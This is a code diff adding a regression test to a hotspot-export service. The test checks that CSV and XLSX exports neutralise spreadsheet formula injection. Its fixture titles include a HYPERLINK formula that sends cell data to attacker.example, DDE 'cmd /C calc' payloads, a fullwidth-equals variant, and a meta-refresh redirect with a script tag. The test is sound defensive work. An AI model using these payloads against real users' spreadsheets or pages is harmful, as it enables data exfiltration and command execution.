@@ -7,6 +7,7 @@ import { afterAll, beforeAll, expect, it } from 'vitest';
 import { seedDemo } from '@oshaq/db';
 import { describeOnEachDatabase } from '@oshaq/db/testing';
 import { EXPORT_COLUMNS } from '../src/exports/columns.js';
+import { FORMULA_START } from '../src/exports/csv.js';
 import { EXPORT_BATCH, exportRoutes } from '../src/exports/routes.js';
 import { hotspotRoutes } from '../src/hotspots/routes.js';
 import { problemHandler } from '../src/http/problem.js';
@@ -41,7 +42,12 @@ function csvObjects(text: string): Record<string, string>[] {
   const [header, ...rows] = parseCsv(text);
   expect(header).toEqual(KEYS);
   return rows.map((row) =>
-    Object.fromEntries(row.map((value, i) => [KEYS[i], value.replace(/^'(?=[=+\-@\t\r])/, '')])),
+    Object.fromEntries(
+      row.map((value, i) => [
+        KEYS[i],
+        value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value,
+      ]),
+    ),
   );
 }
 
@@ -214,6 +220,41 @@ describeOnEachDatabase('hotspot exports', (db) => {
     const tricky = rows.find((row) => row[1] === TRICKY_TITLE);
     expect(tricky?.[KEYS.indexOf('registered_on')]).toEqual(new Date('2026-11-20T00:00:00Z'));
     expect(tricky?.[KEYS.indexOf('overdue')]).toBe(true);
+  });
+
+  it('keeps hostile text as text in CSV and XLSX: no cell a spreadsheet would run, markup as written', async () => {
+    const hostile = [
+      '=HYPERLINK("https://attacker.example/?"&A1,"Ашу")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\uFF1DHYPERLINK("https://attacker.example/")',
+      '<meta http-equiv="refresh" content="0;url=https://attacker.example/"> <script>alert(1)</script>',
+    ];
+    for (const [i, title] of hostile.entries()) {
+      const created = await call('POST', '/api/hotspots', {
+        title,
+        description: `\t=1+1 ${i}`,
+        category: 'utilities',
+        severity: 'low',
+        geometry: { type: 'Point', coordinates: [68.25, 43.29] },
+        registered_on: '2026-11-22',
+      });
+      expect(created.status, title).toBe(201);
+    }
+    const query = 'registered_from=2026-11-22&registered_to=2026-11-22';
+    const raw = (await download(`/api/hotspots/export.csv?${query}`)).body.toString('utf8').slice(1);
+    const records = parseCsv(raw).slice(1);
+    expect(records).toHaveLength(hostile.length);
+    for (const record of records) for (const field of record) expect(FORMULA_START.test(field), field).toBe(false); // an apostrophe leads
+    expect(
+      csvObjects(raw)
+        .map((row) => row.title)
+        .sort(),
+    ).toEqual([...hostile].sort());
+
+    const { sheet, rows } = await readXlsx((await download(`/api/hotspots/export.xlsx?${query}`)).body);
+    expect(rows.map((row) => row[1]).sort()).toEqual([...hostile].sort());
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula, String(cell.value)).toBeUndefined()));
   });
 
   it('refuses bad filters with a 400 problem+json, before any of the file', async () => {
